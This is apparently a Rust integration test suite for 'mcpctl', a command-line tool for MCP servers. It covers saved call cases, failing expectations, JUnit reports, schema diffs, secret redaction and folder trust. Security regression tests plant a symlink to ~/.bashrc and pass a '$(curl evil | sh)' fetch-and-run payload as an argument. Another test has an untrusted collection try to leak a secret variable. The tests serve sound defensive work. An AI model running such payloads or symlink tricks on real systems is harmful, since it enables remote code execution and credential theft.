//! `mcpctl call --save-to` and `mcpctl test` as whole processes, against real servers:
//! server-everything over stdio and streamable HTTP, the SDK 2.4 server of the 2026-07-28
//! protocol (tests/fixtures/servers/modern-server.mjs) and rmcp's task server
//! (crates/connect/examples/task-server.rs). Each kind of expectation is made to fail and its
//! words checked; a snapshot is updated and then holds; `${VAR}`s resolve or are reported;
//! the JUnit report is read back by junitparser (PyPI), as a CI system reads it.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::{json, Value};

fn repo(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .join(path)
        .canonicalize()
        .unwrap()
}

struct World {
    _dir: tempfile::TempDir,
    home: PathBuf,
    project: PathBuf,
}

impl World {
    fn new() -> World {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().canonicalize().unwrap();
        let home = root.join("home");
        let project = root.join("project");
        std::fs::create_dir_all(&home).unwrap();
        std::fs::create_dir_all(project.join(".git")).unwrap();
        let world = World {
            _dir: dir,
            home,
            project,
        };
        // A collection of the project runs once the person trusts the folder.
        world.ok(&["trust"]);
        world
    }

    /// server-everything over stdio, in the user scope.
    fn add_everything(&self) {
        self.ok(&[
            "add",
            "-s",
            "user",
            "everything",
            "--",
            "node",
            &everything(),
            "stdio",
        ]);
    }

    /// A world whose project folder nobody trusted.
    fn untrusted() -> World {
        let world = World::new();
        std::fs::remove_file(world.home.join(".claude.json")).unwrap();
        world
    }

    fn run_with(&self, args: &[&str], env: &[(&str, &str)]) -> Output {
        let mut command = Command::new(env!("CARGO_BIN_EXE_mcpctl"));
        command
            .arg("--project")
            .arg(&self.project)
            .args(args)
            .current_dir(&self.project)
            .env("HOME", &self.home)
            .env_remove("CLAUDE_CONFIG_DIR")
            .env_remove("GREETING")
            .env("MCP_MANAGER_MANAGED_DIR", self.home.join("managed"));
        for (key, value) in env {
            command.env(key, value);
        }
        command.output().unwrap()
    }

    fn run(&self, args: &[&str]) -> Output {
        self.run_with(args, &[])
    }

    fn ok(&self, args: &[&str]) -> String {
        let out = self.run(args);
        assert!(
            out.status.success(),
            "{args:?}: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    fn collection(&self, name: &str) -> PathBuf {
        self.project
            .join(".mcp-collections")
            .join(format!("{name}.json"))
    }

    fn read(&self, name: &str) -> Value {
        serde_json::from_str(&std::fs::read_to_string(self.collection(name)).unwrap()).unwrap()
    }

    fn write(&self, name: &str, value: &Value) {
        std::fs::write(
            self.collection(name),
            serde_json::to_string_pretty(value).unwrap(),
        )
        .unwrap();
    }
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn everything() -> String {
    repo("tests/reference/node_modules/@modelcontextprotocol/server-everything/dist/index.js")
        .display()
        .to_string()
}

#[test]
fn calls_kept_as_cases_pass_then_each_expectation_fails_in_words() {
    let world = World::new();
    world.add_everything();
    let saved = world.run(&[
        "call",
        "everything",
        "get-sum",
        "--args",
        r#"{"b": 3, "a": 2}"#,
        "--save-to",
        "smoke",
    ]);
    assert!(saved.status.success());
    assert!(String::from_utf8_lossy(&saved.stderr).contains("saved as case \"get-sum\" of "));
    world.ok(&[
        "call",
        "everything",
        "echo",
        "--args",
        r#"{"message": "hi"}"#,
        "--save-to",
        "smoke",
        "--as",
        "echo hi",
    ]);
    world.ok(&[
        "call",
        "everything",
        "get-structured-content",
        "--args",
        r#"{"location": "New York"}"#,
        "--save-to",
        "smoke",
    ]);
    let bytes = std::fs::read_to_string(world.collection("smoke")).unwrap();
    assert!(
        bytes.starts_with("{\n  \"cases\": [\n    {\n      \"name\": \"get-sum\",\n      \"server\": \"everything\",\n      \"tool\": \"get-sum\",\n      \"arguments\": {\n        \"a\": 2,\n        \"b\": 3\n      },\n      \"expect\": {\n        \"outcome\": \"ok\",\n        \"snapshot\": {\n          \"content\": [\n            {\n              \"text\": \"The sum of 2 and 3 is 5.\",\n              \"type\": \"text\"\n            }\n          ]\n        }\n      }\n    },\n"),
        "{bytes}"
    );
    assert!(bytes.ends_with("}\n  ]\n}\n"));

    let out = world.run(&["test"]);
    let text = stdout(&out);
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        text.contains("✔ smoke › get-sum (everything, tool get-sum)"),
        "{text}"
    );
    assert!(
        text.contains("✔ smoke › echo hi (everything, tool echo)"),
        "{text}"
    );
    assert!(text.contains("3 passed, 0 failed, 0 not run"), "{text}");

    // Every kind of expectation, made wrong.
    let mut collection = world.read("smoke");
    let cases = collection["cases"].as_array_mut().unwrap();
    cases[0]["expect"]["snapshot"]["content"][0]["text"] = json!("The sum of 2 and 3 is 6.");
    cases[1]["expect"] = json!({
        "outcome": "tool-error",
        "textContains": ["bye"],
        "textMatches": ["^Echo: \\d+$"],
        "outputSchema": true
    });
    cases[2]["expect"] = json!({
        "outcome": "ok",
        "outputSchema": true,
        "values": [
            {"pointer": "/temperature", "min": 100},
            {"pointer": "/conditions", "equals": "Snow"},
            {"pointer": "/humidity", "exists": false},
            {"pointer": "/nowhere", "matches": "x"}
        ]
    });
    world.write("smoke", &collection);
    let out = world.run(&["test"]);
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("✘ smoke › get-sum"), "{text}");
    assert!(
        text.contains("    snapshot: expected the result as accepted"),
        "{text}"
    );
    assert!(
        text.contains("      -       \"text\": \"The sum of 2 and 3 is 6.\","),
        "{text}"
    );
    assert!(
        text.contains("      +       \"text\": \"The sum of 2 and 3 is 5.\","),
        "{text}"
    );
    assert!(
        text.contains("    outcome: expected tool error (isError)\n             got ok"),
        "{text}"
    );
    assert!(
        text.contains(
            "    textContains: expected text containing \"bye\"\n                  got Echo: hi"
        ),
        "{text}"
    );
    assert!(
        text.contains("    textMatches: expected text matching /^Echo: \\d+$/"),
        "{text}"
    );
    assert!(text.contains("    outputSchema: expected a result checked against the tool's outputSchema\n                  got the tool declares no outputSchema"), "{text}");
    assert!(
        text.contains("    values /temperature: expected at least 100"),
        "{text}"
    );
    assert!(
        text.contains("    values /conditions: expected \"Snow\""),
        "{text}"
    );
    assert!(
        text.contains("    values /humidity: expected nothing"),
        "{text}"
    );
    assert!(text.contains("    values /nowhere: expected a value\n                     got nothing at that pointer"), "{text}");
    assert!(text.contains("0 passed, 3 failed, 0 not run"), "{text}");

    // The JUnit report, read as CI reads it.
    let report = world.project.join("report.xml");
    let out = world.run(&["test", "--junit", report.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1));
    // Not canonicalized: the venv's python is a link to the system's, which knows no junitparser.
    let python = repo("tests/reference/python").join("current/bin/python");
    let read = Command::new(python)
        .arg("-c")
        .arg(
            "import json, sys, junitparser\n\
             xml = junitparser.JUnitXml.fromfile(sys.argv[1])\n\
             out = []\n\
             for suite in xml:\n\
             \x20   for case in suite:\n\
             \x20       out.append([suite.name, case.classname, case.name, [type(r).__name__ for r in case.result], [r.message for r in case.result]])\n\
             print(json.dumps({'tests': xml.tests, 'failures': xml.failures, 'errors': xml.errors, 'cases': out}))",
        )
        .arg(&report)
        .output()
        .unwrap();
    assert!(
        read.status.success(),
        "{}",
        String::from_utf8_lossy(&read.stderr)
    );
    let parsed: Value = serde_json::from_slice(&read.stdout).unwrap();
    assert_eq!(parsed["tests"], 3);
    assert_eq!(parsed["failures"], 3);
    assert_eq!(parsed["errors"], 0);
    assert_eq!(
        parsed["cases"][0],
        json!([
            "smoke",
            "smoke.everything",
            "get-sum",
            ["Failure"],
            ["snapshot: expected the result as accepted"]
        ])
    );

    // --update-snapshots: the case that failed on its snapshot alone takes the new result.
    let out = world.run(&["test", "--case", "get-sum", "--update-snapshots"]);
    assert!(out.status.success(), "{}", stdout(&out));
    assert!(stdout(&out).contains("snapshot updated"));
    assert_eq!(
        world.read("smoke")["cases"][0]["expect"]["snapshot"]["content"][0]["text"],
        "The sum of 2 and 3 is 5."
    );
    let out = world.run(&["test", "--case", "get-sum"]);
    assert!(out.status.success(), "{}", stdout(&out));
    assert!(stdout(&out).contains("1 passed, 0 failed, 0 not run"));
}

#[test]
fn variables_resolve_or_say_what_to_set_and_a_missing_server_is_said() {
    let world = World::new();
    world.add_everything();
    std::fs::create_dir_all(world.project.join(".mcp-collections")).unwrap();
    world.write(
        "vars",
        &json!({"cases": [
            {"name": "greet", "server": "everything", "tool": "echo",
             "arguments": {"message": "${GREETING}"}, "expect": {"textContains": ["Echo: hello"]}},
            {"name": "ghost", "server": "nobody", "tool": "echo", "expect": {}}
        ]}),
    );
    let out = world.run(&["test", "vars"]);
    let text = stdout(&out);
    assert_eq!(out.status.code(), Some(1));
    assert!(text.contains("- vars › greet (everything, tool echo) not run: set GREETING in the environment: the arguments use it"), "{text}");
    assert!(text.contains("- vars › ghost (nobody, tool echo) not run: \"nobody\" is not connected (not configured in this project)"), "{text}");
    let out = world.run_with(
        &["test", "vars", "--case", "greet"],
        &[("GREETING", "hello")],
    );
    assert!(out.status.success(), "{}", stdout(&out));
    // --json: one document.
    let out = world.run_with(&["--json", "test", "vars"], &[("GREETING", "hello")]);
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (report["passed"].clone(), report["notRun"].clone()),
        (json!(1), json!(1))
    );
    assert_eq!(report["cases"][1]["status"], "not-run");
    // A broken file: its line and column, left as it is.
    std::fs::write(world.collection("vars"), "{\"cases\": [\n  {,\n]}").unwrap();
    let out = world.run(&["test", "vars"]);
    assert_eq!(out.status.code(), Some(1));
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(
        said.contains("is not a valid collection (line 2, column 4)"),
        "{said}"
    );
    assert_eq!(
        std::fs::read_to_string(world.collection("vars")).unwrap(),
        "{\"cases\": [\n  {,\n]}"
    );
}

#[test]
fn a_secret_argument_is_kept_as_a_variable_never_as_its_value() {
    let world = World::new();
    world.add_everything();
    // server-everything's echo has no secret field: a name that says secret is enough.
    let out = world.run(&[
        "call",
        "everything",
        "echo",
        "--args",
        r#"{"message": "hi", "api_key": "sk-live-0123456789"}"#,
        "--save-to",
        "secret",
    ]);
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(
        said.contains("it is ${API_KEY}; set API_KEY when you run `mcpctl test`"),
        "{said}"
    );
    let bytes = std::fs::read_to_string(world.collection("secret")).unwrap();
    assert!(!bytes.contains("sk-live-0123456789"), "{bytes}");
    assert!(bytes.contains("\"api_key\": \"${API_KEY}\""), "{bytes}");
    // The history: cleared, except what is saved under a name.
    let out = world.run(&["history", "clear", "--before", "1970-01-02"]);
    assert_eq!(
        stdout(&out),
        "removed 0 calls; kept 0 saved under a name (remove their names to clear them)\n"
    );
    let out = world.run(&["history", "clear"]);
    assert_eq!(
        stdout(&out),
        "removed 1 calls; kept 0 saved under a name (remove their names to clear them)\n"
    );
    let out = world.run(&["history", "clear", "--before", "yesterday"]);
    assert_eq!(
        out.status.code(),
        Some(2),
        "a malformed day is a usage error"
    );
}

#[test]
fn cases_over_http_the_2026_era_and_tasks() {
    let world = World::new();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut http = Command::new("node")
        .args([everything().as_str(), "streamableHttp"])
        .env("PORT", port.to_string())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(
            std::time::Instant::now() < deadline,
            "server-everything listens"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    world.ok(&[
        "add",
        "-s",
        "user",
        "--transport",
        "http",
        "remote",
        &format!("http://127.0.0.1:{port}/mcp"),
    ]);
    world.ok(&[
        "add",
        "-s",
        "user",
        "modern",
        "--",
        "node",
        repo("tests/fixtures/servers/modern-server.mjs")
            .to_str()
            .unwrap(),
    ]);
    let task = task_server();
    world.ok(&["add", "-s", "user", "tasks", "--", &task]);
    world.ok(&[
        "call",
        "remote",
        "get-sum",
        "--args",
        r#"{"a": 1, "b": 1}"#,
        "--save-to",
        "eras",
    ]);
    world.ok(&[
        "call",
        "modern",
        "add",
        "--args",
        r#"{"a": 4, "b": 5}"#,
        "--save-to",
        "eras",
    ]);
    world.ok(&[
        "call",
        "tasks",
        "build",
        "--args",
        r#"{"steps": 1}"#,
        "--save-to",
        "eras",
    ]);
    let collection = world.read("eras");
    assert_eq!(
        collection["cases"][1]["expect"]["snapshot"]["structuredContent"],
        json!({"sum": 9})
    );
    let mut collection = collection;
    collection["cases"][1]["expect"]["values"] = json!([{"pointer": "/sum", "equals": 9}]);
    collection["cases"][1]["expect"]["outputSchema"] = json!(true);
    world.write("eras", &collection);
    let out = world.run(&["test", "eras"]);
    let text = stdout(&out);
    let _ = http.kill();
    let _ = http.wait();
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("3 passed, 0 failed, 0 not run"), "{text}");
}

/// crates/connect/examples/task-server.rs, built when this run did not build it.
fn task_server() -> String {
    let exe = std::env::current_exe().unwrap();
    let debug = exe.parent().and_then(Path::parent).unwrap();
    let server = debug.join("examples").join("task-server");
    if !server.exists() {
        let built = Command::new(env!("CARGO"))
            .args([
                "build",
                "-q",
                "-p",
                "mcp-manager-connect",
                "--example",
                "task-server",
            ])
            .status()
            .unwrap();
        assert!(built.success(), "could not build the task server");
    }
    server.display().to_string()
}

#[test]
fn snapshot_then_a_breaking_release_fails_diff() {
    let world = World::new();
    let server = repo("tests/fixtures/servers/versioned-server.mjs");
    world.ok(&[
        "add",
        "-s",
        "user",
        "versioned",
        "--",
        "node",
        server.to_str().unwrap(),
    ]);
    let v1 = world.project.join("v1.json");
    world.ok(&["snapshot", "versioned", "-o", v1.to_str().unwrap()]);
    let kept: Value = serde_json::from_str(&std::fs::read_to_string(&v1).unwrap()).unwrap();
    assert_eq!(
        kept["server"],
        json!({"name": "versioned", "version": "1.0.0"})
    );
    assert_eq!(
        kept["tools"]
            .as_array()
            .unwrap()
            .iter()
            .map(|t| t["name"].clone())
            .collect::<Vec<_>>(),
        [json!("export"), json!("next-release"), json!("search")]
    );
    // The same release: no change, success.
    let same = world.run(&["diff", "versioned", v1.to_str().unwrap()]);
    assert!(same.status.success());
    assert_eq!(stdout(&same), "no changes\n");
    // Release 2.
    world.ok(&["remove", "versioned", "-s", "user"]);
    world.ok(&[
        "add",
        "-s",
        "user",
        "-e",
        "VERSIONED_RELEASE=2",
        "versioned",
        "--",
        "node",
        server.to_str().unwrap(),
    ]);
    let out = world.run(&["diff", "versioned", v1.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(1), "a breaking change fails");
    assert_eq!(
        stdout(&out),
        "  server: versioned 1.0.0 → versioned 2.0.0\n\
         ✘ breaking tool export removed\n\
         ✘ breaking tool next-release removed\n\
         ✘ breaking tool search changed\n\
         \x20   ✘ input /limit: property removed\n\
         \x20   ✘ input /mode: enum lost \"deep\" (narrowed)\n\
         \x20   ✘ input /region: property added, required\n\
         · tool import added\n\
         4 changed, 3 breaking\n"
    );
    // Two files, the other way round: only additions are not breaking.
    let v2 = world.project.join("v2.json");
    world.ok(&["snapshot", "versioned", "-o", v2.to_str().unwrap()]);
    let mut widened: Value = serde_json::from_str(&std::fs::read_to_string(&v2).unwrap()).unwrap();
    widened["tools"]
        .as_array_mut()
        .unwrap()
        .push(json!({"name": "extra", "inputSchema": {"type": "object"}}));
    let v3 = world.project.join("v3.json");
    std::fs::write(&v3, widened.to_string()).unwrap();
    let out = world.run(&["--json", "diff", v2.to_str().unwrap(), v3.to_str().unwrap()]);
    assert!(out.status.success());
    let diff: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(diff["breaking"], false);
    assert_eq!(diff["items"][0]["name"], "extra");
    // Not a surface: said.
    std::fs::write(world.project.join("junk.json"), "{\"x\": 1}").unwrap();
    let out = world.run(&[
        "diff",
        "versioned",
        world.project.join("junk.json").to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr)
        .contains("is not a surface: write one with `mcpctl snapshot SERVER -o FILE`"));
}

#[test]
fn a_collection_of_an_untrusted_folder_is_not_run_and_its_variables_go_nowhere() {
    // A repository's own collection asks for the person's secret, through a user server.
    let world = World::untrusted();
    world.add_everything();
    std::fs::create_dir_all(world.project.join(".mcp-collections")).unwrap();
    world.write(
        "steal",
        &json!({"cases": [{"name": "leak", "server": "everything", "tool": "echo", "arguments": {"message": "${MY_SECRET}"}}]}),
    );
    let out = world.run_with(&["test"], &[("MY_SECRET", "hunter2-secret")]);
    assert_eq!(out.status.code(), Some(1));
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(
        said.contains("belongs to a project folder you have not trusted, so it is not run"),
        "{said}"
    );
    assert!(!stdout(&out).contains("hunter2"));
    // Nothing was called: the history holds no call.
    let history = world.run(&["--json", "history"]);
    let calls: Value = serde_json::from_slice(&history.stdout).unwrap_or(json!([]));
    assert_eq!(calls, json!([]), "no call was made");
    // Trusted, it runs.
    world.ok(&["trust"]);
    let out = world.run_with(&["test"], &[("MY_SECRET", "now-allowed")]);
    assert!(out.status.success(), "{}", stdout(&out));
}

fn said(out: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

/// The High finding: `.mcp-collections/smoke.json.tmp -> ../../.bashrc` committed, and the
/// person adds a call to "smoke" with `mcpctl call … --save-to smoke`.
#[test]
fn saving_a_case_never_writes_through_a_committed_link() {
    let world = World::new();
    world.add_everything();
    let bashrc = world.home.join(".bashrc");
    std::fs::write(&bashrc, "alias ll='ls -l'\n").unwrap();
    let folder = world.project.join(".mcp-collections");
    std::fs::create_dir_all(&folder).unwrap();
    for planted in ["smoke.json.tmp", ".smoke.json.tmp", "smoke.tmp"] {
        std::os::unix::fs::symlink("../../home/.bashrc", folder.join(planted)).unwrap();
    }
    let out = world.run(&[
        "call",
        "everything",
        "echo",
        "--args",
        r#"{"message": "$(curl evil | sh)"}"#,
        "--save-to",
        "smoke",
    ]);
    assert!(out.status.success(), "{}", said(&out));
    assert_eq!(
        std::fs::read_to_string(&bashrc).unwrap(),
        "alias ll='ls -l'\n"
    );
    let saved = std::fs::read_to_string(folder.join("smoke.json")).unwrap();
    assert!(
        saved.contains("curl evil"),
        "the case is in the collection: {saved}"
    );
    // The collection file itself a link out of the project: refused, said, nothing written.
    std::fs::remove_file(folder.join("smoke.json")).unwrap();
    std::os::unix::fs::symlink("../../home/.bashrc", folder.join("smoke.json")).unwrap();
    let out = world.run(&[
        "call",
        "everything",
        "echo",
        "--args",
        r#"{"message": "x"}"#,
        "--save-to",
        "smoke",
    ]);
    assert!(!out.status.success());
    assert!(said(&out).contains("leads out of"), "{}", said(&out));
    assert_eq!(
        std::fs::read_to_string(&bashrc).unwrap(),
        "alias ll='ls -l'\n"
    );
}

#[test]
fn an_untrusted_folder_s_collection_is_not_written() {
    let world = World::untrusted();
    world.add_everything();
    let out = world.run(&[
        "call",
        "everything",
        "echo",
        "--args",
        r#"{"message": "x"}"#,
        "--save-to",
        "smoke",
    ]);
    assert!(!out.status.success());
    assert!(
        said(&out).contains("not trusted, so it was not written"),
        "{}",
        said(&out)
    );
    assert!(!world.project.join(".mcp-collections").exists());
}
